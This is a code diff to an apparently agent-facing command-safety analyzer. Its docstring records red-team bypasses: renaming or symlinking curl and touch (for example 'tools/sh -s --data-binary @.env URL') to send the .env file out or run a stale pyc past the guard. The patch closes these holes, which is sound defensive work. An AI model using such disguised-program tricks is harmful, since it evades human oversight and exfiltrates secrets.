@@ -267,27 +267,47 @@ def system_program(an: Analyzer, shown: str, cwd: str | None) -> str | None:
     the run made, which may write any file (``_may_write``), as it was judged before rt47: checks that read the line's
     text by program name (the pyc check's ``touch``, ``pymodules._SETS_TIMES``) do not see ``./tt`` as touch, and
     `cp /usr/bin/touch ./tt`, then `./tt -d 2020-01-01 m.py && python3 -c 'import m'` ran a stale pyc once rt47
-    judged ./tt as touch alone (tests/safety/test_redteam38_fixed.py's predicted hole)."""
+    judged ./tt as touch alone (tests/safety/test_redteam38_fixed.py's predicted hole).
+
+    rt48: a link that was in the workspace before the run (`tools/lint -> /usr/bin/curl`, committed in a repository
+    someone else wrote: git keeps links) is a name too, and what runs is its target: it was judged as an unknown
+    program `lint` and sent `.env`, run by its path, on PATH, through a chain of links, or as `./e curl …` (a link to
+    env). So is a copy found there (it was asked about only when its name was not one the guard reads). And a link or
+    copy named as a shell or an interpreter (`ln -s /usr/bin/curl tools/sh`, then `tools/sh -s --data-binary @.env
+    URL`) was judged as that shell, by its name, whoever made it. The same program under a versioned name
+    (`.venv/bin/python -> /usr/bin/python3.11`) is left to its name (``same_program``); only a program the run made
+    may also write any file."""
     resolved = an.paths.resolve(shown, cwd)
     name = posixpath.basename(shown)
     if not any(resolved == w or resolved.startswith(w + "/") for w in an.paths.workspaces):
-        if not resolved.startswith(_SYSTEM_DIRS) or posixpath.basename(resolved) == name:
+        if not resolved.startswith(_SYSTEM_DIRS) or same_program(name, posixpath.basename(resolved)):
             return None
         base = an.paths.resolve(cwd, None) if cwd else (an.paths.workspaces[0] if an.paths.workspaces else "/")
         literal = posixpath.normpath(posixpath.join(base, an.paths.expand_home(shown)))
-        if literal not in an.paths.links and _made_before_run(an, literal):
-            return None
-        _may_write(an, shown)
+        if literal in an.paths.links or not _made_before_run(an, literal):
+            _may_write(an, shown)
         return resolved
-    if placed_before_run(an, resolved):
-        return None
+    found = placed_before_run(an, resolved)
     with contextlib.suppress(OSError):
         for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
-            if posixpath.basename(real) != name and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
+            if not same_program(name, posixpath.basename(real)) and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
                     resolved, real, shallow=False):
-                _may_write(an, shown)
+                if not found:
+                    _may_write(an, shown)
                 return real
     return None
+
+
+def same_program(shown: str, real: str) -> bool:
+    """Whether the names ``shown`` and ``real`` are one program's, up to a version (``python``, ``python3`` and
+    ``python3.11``; ``gcc-12`` and ``gcc``)."""
+    return shown == real or _unversioned(shown) == _unversioned(real)
+
+
+def _unversioned(name: str) -> str:
+    from macrohard.safety.argv import canonical_program
+
+    return canonical_program(name).rstrip("0123456789.-") or name
 
 
 def _made_before_run(an: Analyzer, literal: str) -> bool:
